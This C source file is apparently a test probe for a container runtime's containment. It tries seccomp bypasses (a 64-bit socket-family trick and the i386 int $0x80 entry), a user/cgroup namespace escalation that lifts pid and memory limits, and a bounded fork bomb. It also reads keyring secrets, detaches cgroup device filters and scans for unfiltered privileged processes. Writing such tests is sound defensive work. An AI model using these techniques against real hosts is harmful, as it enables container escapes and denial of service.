/* Attacks a container's root tries on its walls; built static by tests/e2e/test_containment.py and
 * run inside a container from a read-only volume.
 *
 *   attack syscalls          each call docker's profile denies, one line "NAME errno" (0: it worked)
 *   attack escalate V1|V2    user + mount + cgroup namespace, mount its cgroups, lift its own limits
 *   attack open PATH [w]     open a path for reading (or writing), print "open 0" or "open ERRNO"
 *   attack watch SECONDS     print "ready", then "PID CAPEFF SECCOMP" for each process that shows
 *                            up with other capabilities than ours or no seccomp filter
 *   attack forks N           a fork bomb held at N: fork children that wait, until N are up or a
 *                            fork fails; print "forks COUNT ERRNO" (0: all N), then let them all go
 *   attack keyring DESC      find the "user" key DESC from our session keyring down, print
 *                            "keyring PAYLOAD" or "keyring ERRNO"
 *   attack syscall NR        syscall number NR with zero arguments, print "syscall 0" or "syscall ERRNO"
 *   attack detach CGROUP2DIR detach the device program of that cgroup2 cgroup, print "detach 0" or
 *                            "detach ERRNO"
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <dirent.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

static void report(const char *name, long ret) {
    printf("%s %d\n", name, ret < 0 ? errno : 0);
    fflush(stdout);
}

/* A child that does nothing: clone's and clone3's success is a child that exits. */
static long reap(long pid) {
    if (pid > 0)
        waitpid((pid_t)pid, NULL, 0);
    if (pid == 0)
        _exit(0);
    return pid;
}

static long try_unshare_user(void) { return unshare(CLONE_NEWUSER); }
static long try_unshare_mount(void) { return unshare(CLONE_NEWNS); }
static long try_clone_newuser(void) { return reap(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)); }

static long try_clone3_newuser(void) {
    struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } args;
    memset(&args, 0, sizeof args);
    args.flags = CLONE_NEWUSER;
    args.exit_signal = SIGCHLD;
    return reap(syscall(SYS_clone3, &args, sizeof args));
}

static long try_keyctl(void) { return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -2 /* process */, 1); }
static long try_add_key(void) { return syscall(SYS_add_key, "user", "minirun-probe", "x", 1, -2); }

static long try_io_uring_setup(void) {
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    return syscall(SYS_io_uring_setup, 1, &params);
}

static long try_userfaultfd(void) { return syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY); }

static long try_perf_event_open(void) {
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_TASK_CLOCK;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static long try_mount_tmpfs(void) {
    mkdir("/tmp", 01777);
    mkdir("/tmp/probe-mnt", 0700);
    return mount("none", "/tmp/probe-mnt", "tmpfs", 0, NULL);
}

static long try_setns(void) { return setns(0, 0); } /* fd 0 is no namespace: EINVAL past the filter */
static long try_personality(void) { return syscall(SYS_personality, 0x0400000 /* READ_IMPLIES_EXEC */); }
static long try_af_alg(void) { return socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0); }

/* AF_VSOCK (40) with a bit above the int the kernel reads: "family > 40" to a filter comparing
 * all 64 bits, AF_VSOCK to the kernel (a host's vsock is not namespaced). */
static long try_vsock_high(void) { return syscall(SYS_socket, (1L << 32) | 40, SOCK_STREAM, 0); }

static long try_vmsplice(void) {
    int fds[2];
    static char page[64];
    struct iovec iov = {page, sizeof page};
    if (pipe(fds) < 0)
        return -1;
    return syscall(SYS_vmsplice, fds[1], &iov, 1, 0);
}

/* The i386 entry (int $0x80) from this 64-bit process: i386 numbers, arguments in ebx, ecx, edx,
 * esi, edi (none of them pointers here: int $0x80 truncates them to 32 bits). A kernel without
 * IA32 emulation answers with a SIGSEGV. */
static long int80(long nr, long a, long b, long c) {
#if defined(__x86_64__)
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    if (ret < 0 && ret > -4096) {
        errno = (int)-ret;
        return -1;
    }
    return ret;
#else
    (void)nr, (void)a, (void)b, (void)c;
    errno = ENOSYS;
    return -1;
#endif
}

static long try_i386_unshare_user(void) { return int80(310 /* unshare */, CLONE_NEWUSER, 0, 0); }
static long try_i386_clone_newuser(void) { return reap(int80(120 /* clone */, CLONE_NEWUSER | SIGCHLD, 0, 0)); }
static long try_i386_keyctl(void) { return int80(288 /* keyctl */, 0, -2, 1); }
static long try_i386_personality(void) { return int80(136 /* personality */, 0x0400000, 0, 0); }
static long try_i386_userfaultfd(void) { return int80(374 /* userfaultfd */, O_CLOEXEC | UFFD_USER_MODE_ONLY, 0, 0); }

static const struct { const char *name; long (*call)(void); } probes[] = {
    {"unshare_user", try_unshare_user}, {"unshare_mount", try_unshare_mount},
    {"clone_newuser", try_clone_newuser}, {"clone3_newuser", try_clone3_newuser},
    {"keyctl", try_keyctl}, {"add_key", try_add_key}, {"io_uring_setup", try_io_uring_setup},
    {"userfaultfd", try_userfaultfd}, {"perf_event_open", try_perf_event_open},
    {"mount_tmpfs", try_mount_tmpfs}, {"setns", try_setns}, {"personality", try_personality},
    {"socket_af_alg", try_af_alg}, {"socket_vsock_high", try_vsock_high}, {"vmsplice", try_vmsplice},
    {"i386_unshare_user", try_i386_unshare_user}, {"i386_clone_newuser", try_i386_clone_newuser},
    {"i386_keyctl", try_i386_keyctl}, {"i386_personality", try_i386_personality},
    {"i386_userfaultfd", try_i386_userfaultfd},
};

/* Each in a child of its own, so one that works (a new user namespace) changes nothing for the next. */
static int syscalls(void) {
    for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++) {
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            long ret = probes[i].call();
            _exit(ret < 0 ? errno : 0);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        printf("%s %d\n", probes[i].name, WIFEXITED(status) ? WEXITSTATUS(status) : 255);
    }
    fflush(stdout);
    return 0;
}

static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, text, strlen(text));
    int saved = errno;
    close(fd);
    errno = saved;
    return n < 0 ? -1 : 0;
}

/* The escalation of the issue: a new user namespace where we are root, owning new mount and
 * cgroup namespaces; the cgroup namespace's root is the container's own cgroup, whose limit
 * files a fresh cgroup mount shows writable. */
static int escalate(const char *version) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        report("unshare", -1);
        return 1;
    }
    report("unshare", 0);
    char map[64];
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    report("uid_map", write_file("/proc/self/uid_map", map));
    snprintf(map, sizeof map, "0 %u 1", gid);
    report("gid_map", write_file("/proc/self/gid_map", map));
    mkdir("/tmp", 01777);
    mkdir("/tmp/cg", 0700);
    if (strcmp(version, "v2") == 0) {
        report("mount", mount("none", "/tmp/cg", "cgroup2", 0, NULL));
        report("pids.max", write_file("/tmp/cg/pids.max", "max"));
        report("memory.max", write_file("/tmp/cg/memory.max", "max"));
        /* a limit every v2 cgroup has, controllers or not */
        report("cgroup.max.descendants", write_file("/tmp/cg/cgroup.max.descendants", "max"));
        return 0;
    }
    mkdir("/tmp/cg/pids", 0700);
    mkdir("/tmp/cg/memory", 0700);
    report("mount", mount("none", "/tmp/cg/pids", "cgroup", 0, "pids"));
    report("pids.max", write_file("/tmp/cg/pids/pids.max", "max"));
    report("mount_memory", mount("none", "/tmp/cg/memory", "cgroup", 0, "memory"));
    report("memory.limit_in_bytes", write_file("/tmp/cg/memory/memory.limit_in_bytes", "2147483648"));
    return 0;
}

/* CapEff and Seccomp of /proc/PID/status (any process may read them: no ptrace needed) */
static int status_of(const char *pid, char *cap, size_t cap_size, char *seccomp, size_t seccomp_size) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return -1;
    cap[0] = seccomp[0] = 0;
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, "CapEff:\t", 8) == 0)
            snprintf(cap, cap_size, "%.*s", (int)strcspn(line + 8, "\n"), line + 8);
        if (strncmp(line, "Seccomp:\t", 9) == 0)
            snprintf(seccomp, seccomp_size, "%.*s", (int)strcspn(line + 9, "\n"), line + 9);
    }
    fclose(f);
    return cap[0] ? 0 : -1;
}

/* What a root that may ptrace (CAP_SYS_PTRACE) could attach to: a process of the runtime's in
 * the container's PID namespace holding more than the container, or not yet filtered. */
static int watch(int seconds) {
    static char reported[1 << 22];
    char mine[32], mine_seccomp[8], cap[32], seccomp[8], self[16];
    snprintf(self, sizeof self, "%d", getpid());
    if (status_of(self, mine, sizeof mine, mine_seccomp, sizeof mine_seccomp) < 0)
        return 1;
    printf("ready\n");
    fflush(stdout);
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir != NULL && (entry = readdir(dir)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || pid >= (int)sizeof reported || reported[pid])
                continue;
            if (status_of(entry->d_name, cap, sizeof cap, seccomp, sizeof seccomp) < 0)
                continue;
            if (strcmp(cap, mine) != 0 || strcmp(seccomp, mine_seccomp) != 0) {
                reported[pid] = 1;
                printf("%d %s %s\n", pid, cap, seccomp);
                fflush(stdout);
            }
        }
        if (dir != NULL)
            closedir(dir);
    }
    return 0;
}

static int forks(long wanted) {
    int gate[2];
    if (pipe(gate) < 0)
        return 1;
    long count = 0;
    int failure = 0;
    while (count < wanted) {
        pid_t pid = fork();
        if (pid < 0) {
            failure = errno;
            break;
        }
        if (pid == 0) { /* wait for the gate to close: read returns 0 when the last writer goes */
            char byte;
            close(gate[1]);
            while (read(gate[0], &byte, 1) < 0 && errno == EINTR)
                ;
            _exit(0);
        }
        count++;
    }
    close(gate[1]);
    while (wait(NULL) > 0 || errno == EINTR)
        ;
    printf("forks %ld %d\n", count, failure);
    fflush(stdout);
    return 0;
}

static int keyring(const char *description) {
    long id = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* session */, "user", description, 0);
    char payload[256] = {0};
    long n = id < 0 ? id : syscall(SYS_keyctl, 11 /* KEYCTL_READ */, id, payload, sizeof payload - 1);
    if (n < 0)
        printf("keyring %d\n", errno);
    else
        printf("keyring %s\n", payload);
    return 0;
}

static int detach(const char *dir) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.target_fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    attr.attach_type = BPF_CGROUP_DEVICE;
    report("detach", attr.target_fd < 0 ? -1 : syscall(SYS_bpf, BPF_PROG_DETACH, &attr, sizeof attr));
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
        return syscalls();
    if (argc >= 3 && strcmp(argv[1], "escalate") == 0)
        return escalate(argv[2]);
    if (argc >= 3 && strcmp(argv[1], "open") == 0) {
        int writing = argc >= 4 && strcmp(argv[3], "w") == 0;
        int fd = open(argv[2], (writing ? O_WRONLY | O_APPEND : O_RDONLY) | O_NONBLOCK | O_CLOEXEC);
        report("open", fd);
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "watch") == 0)
        return watch(atoi(argv[2]));
    if (argc >= 3 && strcmp(argv[1], "forks") == 0)
        return forks(atol(argv[2]));
    if (argc >= 3 && strcmp(argv[1], "keyring") == 0)
        return keyring(argv[2]);
    if (argc >= 3 && strcmp(argv[1], "syscall") == 0) {
        report("syscall", syscall(atol(argv[2]), 0, 0, 0, 0, 0, 0));
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "detach") == 0)
        return detach(argv[2]);
    fprintf(stderr, "usage: attack syscalls | escalate v1|v2 | open PATH [w] | watch SECONDS | forks N | keyring DESC"
                    " | syscall NR | detach CGROUP2DIR\n");
    return 2;
}
